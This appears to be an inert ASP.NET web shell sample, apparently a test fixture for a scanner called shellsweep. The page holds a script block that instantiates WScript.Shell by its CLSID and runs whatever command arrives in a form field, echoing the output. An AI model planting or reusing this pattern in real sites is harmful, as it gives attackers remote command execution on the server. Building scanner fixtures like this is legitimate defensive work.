<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
void Go(object s, EventArgs e) {
  object sh = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")));
  Response.Write(sh.GetType().InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { Request.Form["c"] }));
}
</script>
